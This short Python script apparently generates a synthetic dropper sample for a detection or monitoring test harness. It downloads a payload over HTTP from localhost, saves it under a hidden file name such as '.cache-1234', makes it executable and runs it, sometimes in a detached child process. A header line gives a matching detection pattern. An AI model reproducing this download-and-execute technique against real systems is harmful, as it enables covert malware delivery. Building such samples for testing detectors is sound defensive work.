#!/usr/bin/python3
# family: dropper
# needs: http
# actors: python3.*|\.(cache|update|sys)-\w+
"""Downloader/dropper: fetch a payload over HTTP, write it under a hidden name, chmod +x, exec it.
What the payload then runs (sleep, cat) are bystanders."""
import os, random, stat, time, urllib.request
rng = random.Random(int(os.environ["PG_SEED"]))
url = "http://127.0.0.1:%s/%s" % (os.environ["PG_HTTP_PORT"], rng.choice(["payload", "payload.sh", "update.bin"]))
data = urllib.request.urlopen(url, timeout=10).read()
dest = os.path.join(os.environ["TMPDIR"], ".%s-%d" % (rng.choice(["cache", "update", "sys"]), rng.randint(0, 9999)))
with open(dest, "wb") as f:
    f.write(data)
os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
time.sleep(rng.uniform(0, 0.3))
if rng.random() < 0.5:
    os.execv(dest, [dest])
else:
    pid = os.fork()
    if pid == 0:
        os.setsid()
        os.execv(dest, [dest])
    os.waitpid(pid, 0)
